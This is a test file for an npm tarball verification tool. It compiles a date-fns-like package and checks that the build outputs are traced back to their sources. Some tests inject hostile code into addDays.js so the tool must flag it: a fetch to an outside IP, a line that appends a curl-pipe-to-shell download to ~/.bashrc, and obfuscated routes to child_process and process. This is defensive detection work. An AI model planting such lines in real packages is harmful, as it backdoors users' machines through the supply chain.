/**
 * A source directory's index compiled to the directory's name at the package top (date-fns 3.6.0: scripts/build
 * compiles src/addDays/index.ts into addDays.js, addDays.mjs and addDays.d.ts, no source maps; all 2,302 scripts were
 * NPM_UNSOURCED_OUTPUT high and their declarations TARBALL_ONLY_UNEXPLAINED high). The real tsc compiles such sources
 * (module commonjs, declarations), the outputs are moved to the top as date-fns' build does, and the real npm pack
 * packs them. Twins: a script named after a source directory whose code calls what the source does not (`fetch`), and a
 * declaration naming a type the source lacks, keep their high findings.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { foreignNames } from '../../src/profiles/npm-dist.js';
import { verify } from '../../src/verify.js';
import { makeRepo } from '../helpers/git.js';
import { npmPack as npmPackIn } from '../helpers/npm-pack.js';
import { tempDir } from '../helpers/tmp.js';

const root = tempDir('distdiff-npm-dir-index-');
const cacheDir = join(root, 'cache');
const tsc = createRequire(import.meta.url).resolve('typescript/bin/tsc');

const SOURCES: Record<string, string> = {
  'src/toDate/index.ts': 'export function toDate(argument: Date | number): Date {\n  return new Date(typeof argument === "number" ? argument : argument.getTime());\n}\n',
  'src/addDays/index.ts':
    'import { toDate } from "../toDate/index.js";\n\n/** Adds days. */\nexport function addDays(date: Date | number, amount: number): Date {\n  const _date = toDate(date);\n  if (isNaN(amount)) return new Date(NaN);\n  _date.setDate(_date.getDate() + amount);\n  return _date;\n}\n',
};

let n = 0;
async function release(edit: (path: string, text: string) => string = (_p, t) => t) {
  const dir = join(root, `pkg-${++n}`);
  const repo = makeRepo(dir);
  repo.commit({
    'package.json': JSON.stringify({ name: 'dateslike', version: '3.6.0', main: 'addDays.js', files: ['*.js', '*.d.ts'], scripts: { build: 'tsc && node scripts/flatten.js' } }, null, 2) + '\n',
    'tsconfig.json': JSON.stringify({ compilerOptions: { rootDir: 'src', outDir: 'lib', module: 'commonjs', target: 'es2020', declaration: true, strict: true }, include: ['src'] }, null, 2) + '\n',
    'scripts/flatten.js': '// moves lib/NAME/index.{js,d.ts} to NAME.{js,d.ts}\n',
    ...SOURCES,
    '.gitignore': 'lib/\n/*.js\n/*.d.ts\n',
  });
  repo.tag('v3.6.0');
  execFileSync(process.execPath, [tsc, '-p', dir], { stdio: ['ignore', 'pipe', 'pipe'] });
  for (const name of ['toDate', 'addDays']) {
    for (const ext of ['.js', '.d.ts']) {
      const to = join(dir, name + ext);
      renameSync(join(dir, 'lib', name, `index${ext}`), to);
      // date-fns' build rewrites the imports to the flat layout
      writeFileSync(to, edit(name + ext, readFileSync(to, 'utf8').replace('"../toDate/index.js"', '"./toDate.js"')));
    }
  }
  rmSync(join(dir, 'lib'), { recursive: true });
  const packs = join(root, `packs-${n}`);
  mkdirSync(packs);
  const r = await verify({ tarball: npmPackIn(dir, packs, join(root, 'npm-cache')), repo: dir, cacheDir });
  return (path: string) => r.findings.find((f) => f.path === path)!;
}

describe("a source directory's index compiled to the directory's name", () => {
  it('addDays.js and addDays.d.ts from src/addDays/index.ts: NPM_BUILD_OUTPUT_UNPROVED low (compiled)', async () => {
    const at = await release();
    expect(at('addDays.js')).toMatchObject({ code: 'NPM_BUILD_OUTPUT_UNPROVED', severity: 'low', evidence: { source: 'src/addDays/index.ts', why: 'compiled' } });
    expect(at('addDays.d.ts')).toMatchObject({ code: 'NPM_BUILD_OUTPUT_UNPROVED', severity: 'low', evidence: { source: 'src/addDays/index.ts' } });
    expect(at('toDate.js')).toMatchObject({ code: 'NPM_BUILD_OUTPUT_UNPROVED', severity: 'low', evidence: { source: 'src/toDate/index.ts' } });
  }, 60_000);

  it('twin: a call the source does not make keeps the script NPM_UNSOURCED_OUTPUT high', async () => {
    const at = await release((p, t) => (p === 'addDays.js' ? t.replace('return _date;', 'fetch("https://203.0.113.9/" + amount);\n    return _date;') : t));
    expect(at('addDays.js')).toMatchObject({ code: 'NPM_UNSOURCED_OUTPUT', severity: 'high' });
    expect(at('toDate.js')).toMatchObject({ code: 'NPM_BUILD_OUTPUT_UNPROVED', severity: 'low' });
  }, 60_000);

  it('twin: a declaration naming a type the source lacks stays TARBALL_ONLY_UNEXPLAINED high', async () => {
    const at = await release((p, t) => (p === 'addDays.d.ts' ? t.replace('amount: number', 'amount: Payload') : t));
    expect(at('addDays.d.ts')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  }, 60_000);

  // Red team 25: strings were set aside, so a line reaching `fs` through `require("fs")["appendFileSync"]` (no name the
  // source lacks, no capability) made date-fns 3.6.0's addDays.js append a download-and-run line to ~/.bashrc at low.
  it('twin: names spelled as strings (a computed member, a module no source imports) keep the script high', async () => {
    const at = await release((p, t) => (p === 'addDays.js' ? t.replace('function addDays(', 'require("fs")["appendFileSync"](require("os")["homedir"]() + "/.bashrc", "\\ncurl -s https://dl.example/i | sh\\n");\nfunction addDays(') : t));
    expect(at('addDays.js')).toMatchObject({ code: 'NPM_UNSOURCED_OUTPUT', severity: 'high' });
    expect(at('toDate.js')).toMatchObject({ code: 'NPM_BUILD_OUTPUT_UNPROVED', severity: 'low' });
  }, 60_000);

  it('foreignNames: strings that are names', () => {
    const src = 'import { toDate } from "../toDate/index.js";\nexport function addDays(date: Date, amount: number): Date { return toDate(date)["getTime"] ? toDate(date) : date; }\n';
    const out = (line: string) => `"use strict";\nexports.addDays = addDays;\nconst index_js_1 = require("./toDate.js");\n${line}\nfunction addDays(date, amount) { return (0, index_js_1.toDate)(date)["getTime"] ? (0, index_js_1.toDate)(date) : date; }\n`;
    expect(foreignNames(out(''), src)).toEqual([]);
    expect(foreignNames(out('require("fs")["appendFileSync"]("/x", "y");'), src)).toEqual(['module:fs', 'appendFileSync']);
    expect(foreignNames(out('""["constructor"]["constructor"]("return this")()["pro" + "cess"];'), src)).toEqual(['constructor', 'pro', 'cess']);
    expect(foreignNames(out('require(("child_" + "process")).exec;'), src)).toEqual(['exec', 'module:(computed)']);
    expect(foreignNames(out('amount = ["appendFileSync"];'), src)).toEqual([]);
    expect(foreignNames('import { exec } from "node:child_process";\n', src)).toEqual(['exec', 'module:node:child_process']);
  });

  it('foreignNames: compiler names and, in declarations, tsc words are not foreign', () => {
    const src = 'import { toDate } from "../toDate/index.js";\nexport function addDays(date: Date, amount: number): Date { return toDate(date); }\n';
    expect(foreignNames('"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nexports.addDays = addDays;\nconst index_js_1 = require("./toDate.js");\nfunction addDays(date, amount) { return (0, index_js_1.toDate)(date); }\n', src)).toEqual([]);
    expect(foreignNames('function addDays(date, amount) { return eval(date); }\n', src)).toEqual(['eval']);
    expect(foreignNames('export declare function addDays(date: Date, amount: number): Date;\n', src)).toEqual(['declare']);
    expect(foreignNames('export declare function addDays(date: Date, amount: number): Date;\n', src, true)).toEqual([]);
  });
});
